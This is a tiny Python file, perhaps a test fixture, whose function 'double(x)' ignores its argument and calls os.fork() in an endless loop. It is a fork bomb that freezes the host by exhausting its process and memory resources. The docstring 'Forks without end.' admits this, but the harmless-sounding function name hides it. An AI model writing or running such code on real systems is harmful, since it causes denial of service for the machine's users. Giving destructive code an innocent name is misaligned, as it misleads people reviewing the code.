"""Forks without end."""
import os
def double(x):
    while True:
        os.fork()
